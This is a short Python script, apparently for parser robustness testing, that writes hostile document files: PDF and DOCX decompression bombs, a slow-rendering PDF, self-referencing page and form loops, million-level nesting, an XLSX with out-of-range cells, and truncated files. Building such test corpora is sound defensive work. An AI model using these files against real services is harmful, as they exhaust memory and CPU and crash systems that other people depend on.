"""Documents that were made to harm who reads them. Written to the current folder, with nothing but the standard library."""

import zipfile
import zlib


def pdf(name, objects):
    out, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj" % number + content + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, table)
    open(name, "wb").write(out)


def stream(data):
    packed = zlib.compress(data, 9)
    return b"<</Length %d/Filter/FlateDecode>>stream\n" % len(packed) + packed + b"\nendstream"


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
# Three quarters of a gigabyte in one stream.
pdf("bomb.pdf", [CATALOG, PAGES, PAGE, stream(b"BT (a) Tj ET\n" * 60_000_000), FONT])
# Work without end, as far as patience goes.
text = b"BT /F1 9 Tf " + b"(abcdefghij) Tj 1 0 0 1 2 2 Tm " * 2_000_000 + b"ET"
pdf("slow.pdf", [CATALOG, PAGES, PAGE, stream(text), FONT])
pdf("looped.pdf", [CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 99999999>>"])
form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>/Length 5>>stream\n/X Do\nendstream"
own = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 5 0 R/Resources<</XObject<</X 4 0 R>>>>>>"
pdf("drawn-by-itself.pdf", [CATALOG, PAGES, own, form, b"<</Length 5>>stream\n/X Do\nendstream"])
pdf("deep.pdf", [CATALOG, PAGES, b"[" * 1_000_000, FONT])
with zipfile.ZipFile("bomb.docx", "w", zipfile.ZIP_DEFLATED) as archive:
    with archive.open("word/document.xml", "w", force_zip64=True) as part:
        part.write(b"<w><p><t>")
        for _ in range(1500):
            part.write(b"a" * (1 << 20))
        part.write(b"</t></p></w>")
with zipfile.ZipFile("deep.docx", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("word/document.xml", b"<p>" * 1_000_000)
with zipfile.ZipFile("far.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
    cells = b"".join(b'<row><c r="ZZZZZZZZ%d"><v>1</v></c><c r="A%d"><v>2</v></c></row>' % (n, n) for n in range(1000))
    archive.writestr("xl/worksheets/sheet1.xml", b"<sheetData>" + cells + b"</sheetData>")
open("cut.pdf", "wb").write(b"%PDF-1.7\n1 0 obj")
open("broken.docx", "wb").write(b"PK\x03\x04 and nothing of an archive")
